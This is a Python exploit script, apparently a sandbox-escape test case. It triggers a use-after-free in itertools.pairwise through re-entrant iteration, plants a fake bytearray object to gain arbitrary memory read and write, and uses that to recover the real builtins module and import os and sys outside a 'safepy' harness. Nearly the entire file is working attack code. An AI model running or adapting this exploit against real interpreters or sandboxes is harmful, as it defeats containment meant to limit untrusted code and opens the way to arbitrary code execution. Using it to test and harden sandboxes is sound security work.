# technique: itertools.pairwise re-entered from the source iterator's __next__: pairwise_next holds po->old borrowed, the inner call Py_SETREF's it away (freed), the outer PyTuple_Pack hands the dangling pointer back; its 64-byte block is refilled with a fake bytearray header (a bytearray data buffer) -> arbitrary R/W -> real builtins/os/sys
# expect: any
import itertools
BA_TYPE = 0x969020   # &PyByteArray_Type in the non-PIE safepy-worker (nm)
fake = (1 << 40).to_bytes(8, "little") + BA_TYPE.to_bytes(8, "little") + (1 << 60).to_bytes(8, "little") * 2 + bytes(24)
holder = bytearray()
class I:
    n = 0
    def __iter__(self): return self
    def __next__(self):
        self.n += 1
        if self.n == 3:
            next(it)                 # re-entrant: po->old (the outer call's borrowed `old`) is freed
            holder.extend(fake)      # 57-byte data buffer reuses the freed 64-byte PyByteArrayObject block
        return bytearray(8)
it = itertools.pairwise(I())
next(it)
W = next(it)[0]                      # the dangling `old`: now our fake bytearray (ob_bytes 0, size 2**60)
print("fake object:", type(W), hex(len(W)))
def r64(a):
    return int.from_bytes(W[a:a+8], "little")
def w64(a, v):
    W[a:a+8] = v.to_bytes(8, "little")
orepr = getattr(object, "__repr__")
def addr(o):
    return int(orepr(o).split(" at ")[1][:-1], 16)
def mat(a):
    L = [None]
    items = r64(addr(L) + 24)
    w64(a, r64(a) + 1)
    w64(items, a)
    return L[0]
bm = mat(r64(addr(print) + 24))            # PyCFunctionObject.m_self of print
print("real builtins module:", bm, type(bm))
bdict = mat(r64(addr(bm) + 16))           # PyModuleObject.md_dict
os = bdict["__import__"]("os")
sys = bdict["__import__"]("sys")
print("os:", os, "pid", os.getpid())
print("harness:", sys.modules["_safepy_harness"])
"escaped"
